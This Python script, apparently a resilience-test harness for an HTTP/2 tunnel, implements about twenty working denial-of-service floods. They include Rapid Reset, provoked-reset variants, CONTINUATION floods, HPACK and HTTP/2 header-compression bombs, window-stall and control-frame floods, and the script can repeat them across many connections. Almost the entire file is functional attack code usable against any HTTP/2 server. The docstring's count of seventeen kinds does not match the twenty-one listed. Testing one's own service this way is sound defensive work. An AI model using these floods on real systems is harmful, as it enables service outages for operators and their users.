"""Seventeen kinds of HTTP/2 abuse on a tunnel's connection: sends so many frames of each kind, or as
many as it can until it is cut, and tells how that ended."""

import time

import hpack
import hyperframe.frame as frames

import provoke
import wire

# How long a kind may take, and how long is waited at its end for what the other side does of it.
SECONDS_MAX = 20.0
WAIT_SECONDS = 1.0
# How long the greeting of the other side may take.
GREETING_SECONDS = 0.2
# When connections follow each other: they have no time to lose, and one kind has so much in all.
AGAIN_WAIT_SECONDS = 0.02
AGAIN_SECONDS_MAX = 400.0
# Frames that are sent in one go, so that many are under way before the first is judged.
BATCH = 50
# Of kilobytes each.
LARGE_BATCH = 1

HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS = 1, 4


def main():
    parser = wire.arguments(__doc__)
    parser.add_argument("--attack", required=True, help="kinds, with commas between them")
    parser.add_argument("--frames", type=int, required=True)
    parser.add_argument("--again", action="store_true", help="over as many connections as that takes")
    told = parser.parse_args()
    outcome = {}
    for name in told.attack.split(","):
        outcome = again_and_again(told, name) if told.again else Attack(told, name).run()
    wire.tell(**outcome)


def again_and_again(told, name):
    """One kind, connection after connection, until so many frames went out."""
    began = time.monotonic()
    sent, connections, left_open = 0, 0, 0
    while sent < told.frames and time.monotonic() - began < AGAIN_SECONDS_MAX:
        outcome = Attack(told, name, AGAIN_WAIT_SECONDS).run(told.frames - sent)
        sent += outcome["sent"]
        connections += 1
        left_open += outcome["closed"] is None and sent < told.frames
    seconds = round(time.monotonic() - began, 3)
    return dict(sent=sent, connections=connections, left_open=left_open, seconds=seconds)


class Attack:
    """One kind over one connection."""

    def __init__(self, told, name, wait=WAIT_SECONDS):
        self.name = name
        self.frames = told.frames
        self.wait = wait
        self.plain = told.plain
        self.host = wire.address(told)[0]
        self.stream = wire.connect(told)
        self.reader = wire.Reader(self.stream)
        self.next_stream = 1
        self.encoder = hpack.Encoder()

    def run(self, most=None):
        kind = KINDS.get(self.name)
        if kind is None:
            raise SystemExit(f"no abuse is called {self.name}; there are {', '.join(KINDS)}")
        self.send(wire.PREFACE + wire.EMPTY_SETTINGS)
        self.reader.poll(GREETING_SECONDS, SETTINGS)
        began = time.monotonic()
        sent, most = 0, self.frames if most is None else most
        make = kind(self)
        # Pings and settings are answered; who does not read the answers is stopped by that alone.
        size = LARGE_BATCH if "bomb" in self.name else BATCH
        while sent < most and time.monotonic() - began < SECONDS_MAX:
            batch = b"".join(next(make) for _ in range(size))
            if not self.send(batch):
                break
            sent += size
            self.reader.poll(0)
            if self.reader.closed or self.reader.goaway is not None:
                break
        self.reader.poll(self.wait)
        goaway = self.reader.goaway
        closed = self.reader.closed or (None if goaway is None else "goaway")
        seconds = time.monotonic() - began
        self.stream.close()
        return dict(sent=sent, closed=closed, goaway=goaway, seconds=round(seconds, 3))

    def send(self, data):
        """False when the other side has closed, or takes nothing for a long time."""
        self.stream.settimeout(5.0)
        try:
            self.stream.sendall(data)
            return True
        except TimeoutError:
            self.reader.closed = "takes nothing"
            return False
        except OSError as error:
            # What it had to say may still lie there.
            self.reader.poll(min(GREETING_SECONDS, self.wait))
            self.reader.closed = self.reader.closed or type(error).__name__
            return False

    def new_stream(self):
        number = self.next_stream
        self.next_stream += 2
        return number

    def block(self):
        """What opens a stream: CONNECT to the null server; of a waypoint's users, a request."""
        return wire.request_block(self.host) if self.plain else wire.connect_block(f"{self.host}:8080")

    def connect(self, stream, end=False, block=None):
        made = frames.HeadersFrame(stream)
        made.data = block or self.block()
        made.flags.add("END_HEADERS")
        if end:
            made.flags.add("END_STREAM")
        return made.serialize()

    def opened(self, count=1, end=False, block=None):
        """Streams that the other side has accepted."""
        streams = [self.new_stream() for _ in range(count)]
        self.send(b"".join(self.connect(stream, end, block) for stream in streams))
        waiting = set(streams)
        until = time.monotonic() + 5.0
        while waiting and time.monotonic() < until and not self.reader.closed:
            for kind, _, stream, _ in self.reader.poll(0.1, HEADERS):
                if kind == HEADERS:
                    waiting.discard(stream)
        if waiting:
            raise SystemExit(f"{self.name}: {len(waiting)} of {count} streams were not opened")
        return streams


def rapid_reset(attack):
    while True:
        stream = attack.new_stream()
        reset = frames.RstStreamFrame(stream)
        reset.error_code = 8
        yield attack.connect(stream) + reset.serialize()


def made_you_reset(provoke):
    """Opens streams and has the other side reset them."""

    def make(attack):
        while True:
            stream = attack.new_stream()
            yield attack.connect(stream) + provoke(stream)

    return make


def continuation(attack):
    yield wire.frame(HEADERS, 0, attack.new_stream(), wire.literal(b"a", b"b" * 50))
    while True:
        yield wire.frame(9, 0, 1, wire.literal(b"a", b"b" * 50))


def empty_continuation(attack):
    yield wire.frame(HEADERS, 0, attack.new_stream(), wire.literal(b"a", b"b"))
    while True:
        yield wire.frame(9, 0, 1, b"")


def settings(attack):
    made = frames.SettingsFrame(0)
    made.settings = {3: 100, 4: 65535}
    data = made.serialize()
    while True:
        yield data


def ping(attack):
    made = frames.PingFrame(0)
    made.opaque_data = b"are you?"
    data = made.serialize()
    while True:
        yield data


def priority(attack):
    made = frames.PriorityFrame(1)
    made.depends_on, made.stream_weight, made.exclusive = 0, 16, False
    data = made.serialize()
    while True:
        yield data


def unknown_frames(attack):
    while True:
        yield wire.frame(0xBE, 0xFF, 0, b"nobody knows")


def empty_data(stalled):
    def make(attack):
        (stream,) = attack.opened()
        if stalled:
            # The application gets more than it takes: it echoes, and nobody reads its echo.
            attack.reader.poll = no_poll(attack.reader)
        data = wire.frame(0, 0, stream, b"")
        while True:
            yield data

    return make


def no_poll(reader):
    """Reads nothing for a while, then looks for the end only."""
    whole = reader.poll
    return lambda seconds: whole(seconds) if seconds >= 0.2 else []


def padded_data(attack):
    """One byte of payload and 255 of padding, as fast as the windows allow."""
    (stream,) = attack.opened()
    data = wire.frame(0, 8, stream, b"\xff" + b"x" + bytes(255))
    while True:
        yield data


def hpack_bomb(attack):
    """Fills the table, then refers to its largest entry as often as fits into a frame."""
    big = wire.literal(b"bomb", b"b" * 3500)
    # Indexed this time (RFC 7541 section 6.2.1).
    stream = attack.new_stream()
    yield wire.frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x40" + big[1:])
    while True:
        stream = attack.new_stream()
        block = attack.block() + b"\xbe" * 16000
        yield wire.frame(HEADERS, END_HEADERS, stream, block)


def http2_bomb(name):
    """Thousands of references to a small entry, and a window that never lets the answer out."""

    def make(attack):
        yield wire.frame(SETTINGS, 0, 0, b"\x00\x04" + bytes(4))
        stream = attack.new_stream()
        entry = b"\x40" + wire.literal(name, b"")[1:]
        yield wire.frame(HEADERS, END_HEADERS, stream, attack.block() + entry)
        while True:
            stream = attack.new_stream()
            block = attack.block() + b"\xbe" * 16000
            yield wire.frame(HEADERS, END_HEADERS, stream, block)

    return make


def window_stall(attack):
    """Streams that ask for a megabyte each, and a window that lets it out byte by byte."""
    attack.send(wire.frame(SETTINGS, 0, 0, b"\x00\x04" + bytes(4)))
    if attack.plain:
        asks = wire.request_block(attack.host, "GET", "/bytes/1000000")
        streams = attack.opened(50, end=True, block=asks)
    else:
        streams = attack.opened(50)
        request = b"GET /bytes/1000000 HTTP/1.1\r\nhost: a\r\n\r\n"
        attack.send(b"".join(wire.frame(0, 0, stream, request) for stream in streams))
    while True:
        for stream in streams:
            yield wire.frame(WINDOW_UPDATE, 0, stream, (1).to_bytes(4, "big"))


def trailers(attack):
    """A list of fields after the request, and one more, and one more."""
    while True:
        stream = attack.new_stream()
        fields = wire.frame(HEADERS, END_HEADERS, stream, attack.encoder.encode([("a", "b" * 20)]))
        yield attack.connect(stream) + fields


def goaway(attack):
    made = frames.GoAwayFrame(0)
    made.last_stream_id, made.error_code = 0, 0
    data = made.serialize()
    while True:
        yield data


KINDS = {
    "rapid-reset": rapid_reset,
    "made-you-reset-window-0": made_you_reset(provoke.window_0),
    "made-you-reset-overflow": made_you_reset(provoke.overflow),
    "made-you-reset-data-after-end": made_you_reset(provoke.data_after_end),
    "made-you-reset-headers-after-end": made_you_reset(provoke.headers_after_end),
    "made-you-reset-priority-length": made_you_reset(provoke.priority_length),
    "continuation": continuation,
    "empty-continuation": empty_continuation,
    "settings": settings,
    "ping": ping,
    "priority": priority,
    "unknown-frames": unknown_frames,
    "empty-data-drained": empty_data(False),
    "empty-data-stalled": empty_data(True),
    "padded-data": padded_data,
    "hpack-bomb": hpack_bomb,
    "http2-bomb": http2_bomb(b"x"),
    "http2-bomb-cookie": http2_bomb(b"cookie"),
    "window-stall": window_stall,
    "trailers": trailers,
    "goaway": goaway,
}

main()
